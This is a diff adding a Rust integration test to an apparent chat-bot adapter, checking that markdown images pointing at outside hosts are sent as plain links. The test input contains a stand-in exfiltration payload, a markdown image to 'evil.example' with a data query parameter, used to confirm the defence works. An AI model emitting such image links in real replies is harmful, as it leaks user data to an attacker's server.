@@ -171,6 +171,20 @@ async fn markdown_that_is_not_granted_becomes_plain_words() {
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_picture_from_elsewhere_is_sent_as_a_link() {
+    let answer =
+        "Look: ![chart](https://evil.example/?q=data) and [![b](https://evil.example/b)](https://e.x)";
+    let world =
+        World::new([Reply::text(answer)], json!({ "adapters": { "qq": { "markdown": true } } })).await;
+    world.qq.rule(|rules| rules.markdown = true);
+    let _daemon = world.project.start().await;
+    world.qq.says(ANN, "draw");
+    let sent = world.qq.text_with("U1", "Look:").await;
+    assert!(!sent.text.contains("!["), "{}", sent.text);
+    assert!(sent.text.contains("[chart](https://evil.example/?q=data)"), "{}", sent.text);
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn files_and_voice_come_in_and_files_go_out() {
     let send = Script::compute(|seen: &Seen| {
         let messages = seen.body["messages"].as_array().cloned().unwrap_or_default();
